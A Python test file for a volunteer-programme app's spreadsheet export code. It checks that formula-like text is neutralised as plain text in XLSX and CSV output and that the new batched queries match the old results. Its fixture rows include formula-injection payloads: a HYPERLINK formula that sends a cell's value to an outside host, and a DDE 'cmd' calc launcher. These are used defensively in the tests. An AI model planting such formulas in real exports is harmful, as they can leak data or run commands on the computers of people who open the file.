"""The streamed table writer (services/spreadsheet.py: write_xlsx / write_csv) and the exports
built on it: formula-looking text stays text, control characters go, phones stay text cells, and
the batched queries give the same rows as the per-volunteer services did."""
from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from models import Volunteer
from services.exports import attendance_tables, expenditure_table, hours_table
from services.hours import hours_by_volunteer
from services.indicators import active_volunteer_ids
from services.spreadsheet import (Table, append_row, csv_bytes, new_workbook, table_bytes, workbook_to_csv,
                                  write_csv, write_xlsx)
from tests.services.test_indicators import Y, programme  # noqa: F401  (fixture)

EVIL = '=HYPERLINK("http://x?"&B2,"点我")'
ROWS = [[EVIL, "13800138000", date(2025, 1, 2), 3.5],
        ["+1+cmd|' /C calc'!A0", "-2+3", None, 0],
        ["a\x02b\x00c", "@SUM(1,2)", date(2025, 12, 31), -1],
        ["\tx", "\rx", "", 12]]
HEADER = ["姓名", "手机号", "日期", "小时"]


def _table(rows=None, **kw) -> Table:
    return Table("表一", HEADER, iter(rows if rows is not None else ROWS), **kw)


def test_xlsx_is_write_only_text_cells_for_formula_like_text_and_text_columns():
    buf = io.BytesIO()
    assert write_xlsx(buf, [_table(widths=(10, 20), text_columns=(1,)), Table("二", ["z"], iter([["=1"]]))]) == 5
    wb = load_workbook(io.BytesIO(buf.getvalue()))
    assert wb.sheetnames == ["表一", "二"]
    ws = wb["表一"]
    assert ws.column_dimensions["A"].width == 10 and ws.column_dimensions["B"].width == 20
    cells = [[c for c in row] for row in ws.iter_rows()]
    assert [c.value for c in cells[0]] == HEADER
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    assert cells[1][0].value == EVIL and cells[1][1].value == "13800138000" and cells[1][1].number_format == "@"
    assert cells[2][1].value == "-2+3" and cells[2][1].number_format == "@"
    assert cells[3][0].value == "abc"                                   # control characters dropped
    assert cells[1][2].value.date() == date(2025, 1, 2) and cells[1][3].value == 3.5
    assert wb["二"]["A2"].value == "=1" and wb["二"]["A2"].data_type == "s"


def test_csv_is_escaped_exactly_as_the_workbook_read_back_was():
    """The old CSV was the workbook read back through csv_cell; the streamed one must not differ."""
    wb = new_workbook("表一")
    append_row(wb.active, HEADER)
    for row in ROWS:
        append_row(wb.active, row)
    old = workbook_to_csv(wb)
    buf = io.BytesIO()
    assert write_csv(buf, _table()) == len(ROWS)
    assert buf.getvalue() == old
    assert buf.getvalue().startswith("\ufeff".encode("utf-8"))
    cells = [c for row in csv.reader(io.StringIO(buf.getvalue().decode("utf-8-sig"), newline="")) for c in row]
    assert "'" + EVIL in cells and "'-2+3" in cells and "'@SUM(1,2)" in cells and "'\tx" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "abc" in cells and "2025-01-02" in cells


def test_short_rows_are_padded_like_the_old_csv_and_progress_is_reported():
    seen: list[int] = []
    buf = io.BytesIO()
    write_csv(buf, Table("t", ["a", "b"], iter([["x"]] * 5)), progress=seen.append, progress_every=2)
    assert buf.getvalue().decode("utf-8-sig").splitlines()[1] == "x,"
    assert seen == [2, 4]
    assert buf.getvalue() == csv_bytes([["a", "b"]] + [["x", ""]] * 5)


def test_the_writer_reads_rows_lazily():
    """Rows come from a generator and are written as they come: nothing asks for them all first."""
    pulled = []

    def rows():
        for i in range(3):
            pulled.append(i)
            yield [i]

    def progress(done):
        assert pulled == list(range(done))  # the writer has not read ahead

    write_xlsx(io.BytesIO(), [Table("t", ["n"], rows())], progress=progress, progress_every=1)
    assert pulled == [0, 1, 2]


def _old_hours_rows(session, year: int, as_of: date) -> list[list]:
    """The hours list as the export computed it before (the grouped per-volunteer summaries)."""
    from services.programme import programme_year

    target = float(programme_year(session, year).target_hours)
    active = set(active_volunteer_ids(session, as_of))
    summaries = hours_by_volunteer(session, year, target_hours=target)
    from services.hours import HoursSummary
    zero = HoursSummary(0, 0, 0, target, year)
    out = []
    for vid, name, team, vest in session.execute(select(Volunteer.id, Volunteer.name, Volunteer.team, Volunteer.vest_no)
                                                 .order_by(Volunteer.team, Volunteer.vest_no, Volunteer.id)):
        if vid in active:
            s = summaries.get(vid, zero)
            out.append([name, team or "", vest or "", s.verified, s.imported, s.adjusted, s.total, "是" if s.met else "否"])
    return out


def test_the_one_statement_hours_list_equals_the_old_computation(session, programme):  # noqa: F811
    for as_of in (date(Y, 12, 31), date(Y, 3, 1)):
        table = hours_table(session, Y, as_of=as_of)
        assert list(table.header)[:3] == ["姓名", "所属居委", "马甲编号"]
        new = [list(r) for r in table.rows]
        assert new == _old_hours_rows(session, Y, as_of)
    assert any(r[3] or r[4] for r in new) and any(r[5] for r in _old_hours_rows(session, Y, date(Y, 12, 31)))


def test_attendance_and_expenditure_lists_read_back_from_xlsx_and_csv(session, programme):  # noqa: F811
    data = table_bytes("xlsx", attendance_tables(session, Y))
    wb = load_workbook(io.BytesIO(data))
    patrols = list(wb["签到记录"].iter_rows(values_only=True))
    assert patrols[0][:5] == ("姓名", "马甲编号", "活动", "点位", "签到") and len(patrols) == 7
    assert [r[4] for r in patrols[1:]] == sorted(r[4] for r in patrols[1:])
    assert list(wb["人工调整"].iter_rows(values_only=True))[1][3] == "停电当晚纸质记录补录"
    text = table_bytes("csv", attendance_tables(session, Y)).decode("utf-8-sig")
    assert len(text.splitlines()) == 7 and "人工调整" not in text  # CSV: the first sheet only
    rows = list(load_workbook(io.BytesIO(table_bytes("xlsx", [expenditure_table(session, Y)]))).active
                .iter_rows(values_only=True))
    assert [r[5] for r in rows[1:]] == [9000.0, 3000.5]
